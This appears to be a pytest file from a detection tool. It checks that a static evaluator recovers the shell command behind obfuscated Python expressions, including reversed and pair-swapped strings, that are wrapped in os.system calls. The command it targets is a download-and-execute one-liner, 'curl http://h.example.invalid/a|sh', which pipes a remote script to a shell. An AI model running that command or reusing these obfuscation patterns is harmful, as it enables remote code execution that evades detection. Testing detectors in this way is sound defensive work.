"""What Python's own library makes of constants: the evaluator is asked, and so is Python.

Each line of `python_library.txt` is an expression that gives the command C; R is the command read backwards,
and S has its characters changed in pairs. Between `@{` and `}@` stands what is worked out before.
"""

from pathlib import Path

import pytest
from engine_flows import commands

from ostiary.core.regex import regex

COMMAND = "curl http://h.example.invalid/a|sh"
LINES = (Path(__file__).parent / "python_library.txt").read_text(encoding="utf-8").splitlines()
IMPORTS = (
    "import array,ast,asyncio,base64,binascii,bz2,codecs,collections,concurrent.futures,configparser,"
    "contextlib,copy,csv,ctypes,dataclasses,enum,functools,gzip,html,io,itertools,json,lzma,math,multiprocessing.dummy,"
    "operator,os,pickle,pathlib,quopri,random,re,shlex,socket,string,struct,sys,textwrap,types,unicodedata,"
    "urllib.parse,zipfile,zlib\n"
)
_BEFORE = regex(r"@\{(.*?)\}@")


@pytest.fixture(scope="module")
def programs() -> dict[str, str]:
    """The program of each expression, of which Python says that it starts the command."""
    names: dict[str, object] = {}
    pairs = "".join(COMMAND[at + 1 : at + 2] + COMMAND[at] for at in range(0, len(COMMAND), 2))
    exec(IMPORTS, names)
    names |= {"C": COMMAND, "R": COMMAND[::-1], "S": pairs}
    made: dict[str, str] = {}
    for line in LINES:
        text = _BEFORE.sub(lambda found: repr(eval(found[1], names)), line)
        assert eval(text, dict(names)) == COMMAND, line
        made[line] = f"{IMPORTS}R = {names['R']!r}\nC = R[::-1]\nS = {pairs!r}\nos.system({text})\n"
    return made


def test_the_evaluator_comes_to_what_python_comes_to(programs: dict[str, str]) -> None:
    assert len(programs) == len(LINES)
    other = {
        line: found for line, text in programs.items() if (found := commands(text)) != {COMMAND}
    }
    assert other == {}
